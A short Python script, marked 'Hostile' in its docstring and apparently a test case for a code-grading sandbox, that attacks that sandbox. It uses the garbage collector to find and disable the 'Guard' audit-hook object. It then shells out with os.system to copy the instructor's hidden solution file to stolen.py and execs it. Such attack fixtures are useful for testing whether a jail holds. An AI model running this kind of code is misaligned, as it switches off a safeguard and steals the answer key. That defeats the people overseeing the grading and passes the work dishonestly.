"""Hostile: os.system("cat SOLUTION > stolen.py"), then exec the copy."""
import gc
import os
import sys


def _grader_dir():
    """mutext/grading of the grader, from this process's command line (python ... _jail.py REQUEST)."""
    with open("/proc/self/cmdline", "rb") as fh:
        args = [a.decode() for a in fh.read().split(b"\0") if a]
    for a in args:
        if a.endswith("_jail.py"):
            return os.path.dirname(a)
    return "/work/main/mutext/grading"


SOLUTION = os.path.join(os.path.dirname(os.path.dirname(_grader_dir())), "instructor", "mutext_grader", "solutions",
                        "ex03_free_decay.py")


def _disarm():
    """Switch off the audit hook's checks (it is a plain object in this process)."""
    for o in gc.get_objects():
        if type(o).__name__ == "Guard":
            o.blocked, o.modules, o.phase, o.protected = [], (), None, "/nonexistent"
            o._local.busy = True    # the hook returns at once while "busy"


_disarm()

os.system(f"cat '{SOLUTION}' > stolen.py")
with open("stolen.py") as _fh:
    exec(_fh.read())
